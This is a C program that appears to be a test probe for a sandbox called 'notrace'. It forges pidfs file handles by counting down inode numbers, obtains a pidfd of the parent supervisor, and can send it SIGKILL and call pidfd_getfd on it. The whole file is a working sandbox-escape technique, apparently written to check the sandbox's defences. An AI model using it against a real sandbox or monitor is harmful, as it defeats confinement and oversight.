// A pidfd of notrace without pidfd_open, /proc or a socket: pidfs file
// handles. name_to_handle_at() on our own pidfd gives a handle holding the
// pidfs inode number; inode numbers are sequential, so handles of older
// processes (notrace, the keeper) are forged by counting down, and
// open_by_handle_at(FD_PIDFS_ROOT, ...) opens them. open_by_handle_at is
// refused only while a path= rule is in force.
// usage: pidfshandle [kill]
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
#ifndef FD_PIDFS_ROOT
#define FD_PIDFS_ROOT -10002
#endif
static int fdinfo_pid(int fd) {
    char p[64], buf[1024];
    snprintf(p, sizeof p, "/proc/self/fdinfo/%d", fd);
    int f = open(p, O_RDONLY);
    if (f < 0) return -1;
    int n = read(f, buf, sizeof buf - 1);
    close(f);
    if (n <= 0) return -1;
    buf[n] = 0;
    char *s = strstr(buf, "\nPid:");
    return s ? atoi(s + 5) : -1;
}
int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    int me = syscall(SYS_pidfd_open, getpid(), 0);
    if (me < 0) { printf("pidfd_open(self): %s\n", strerror(errno)); return 2; }
    struct { struct file_handle fh; unsigned char b[64]; } h;
    h.fh.handle_bytes = 64;
    int mnt;
    if (name_to_handle_at(me, "", &h.fh, &mnt, AT_EMPTY_PATH)) { printf("name_to_handle_at: %s\n", strerror(errno)); return 2; }
    unsigned long long ino;
    memcpy(&ino, h.fh.f_handle, 8);
    printf("pidfshandle: own handle type %d bytes %u ino %llu\n", h.fh.handle_type, h.fh.handle_bytes, ino);
    pid_t target = getppid();
    for (unsigned long long i = ino - 1; i + 1000000 > ino && i > 0; i--) {
        memcpy(h.fh.f_handle, &i, 8);
        int fd = syscall(SYS_open_by_handle_at, FD_PIDFS_ROOT, &h.fh, O_RDONLY);
        if (fd < 0) { if (i == ino - 1) printf("pidfshandle: open_by_handle_at: %s\n", strerror(errno)); continue; }
        int pid = fdinfo_pid(fd);
        if (pid == target) {
            printf("pidfshandle: pidfd of notrace (pid %d) from forged handle ino %llu\n", pid, i);
            if (argc > 1) {
                int r = syscall(SYS_pidfd_send_signal, fd, SIGKILL, NULL, 0);
                printf("pidfshandle: pidfd_send_signal(SIGKILL) = %d\n", r);
                usleep(300000);
            }
            int g = syscall(SYS_pidfd_getfd, fd, 0, 0);
            printf("pidfshandle: pidfd_getfd(notrace, 0) = %s\n", g >= 0 ? "ok" : strerror(errno));
            return 1;
        }
        close(fd);
    }
    printf("pidfshandle: notrace not found\n");
    return 0;
}
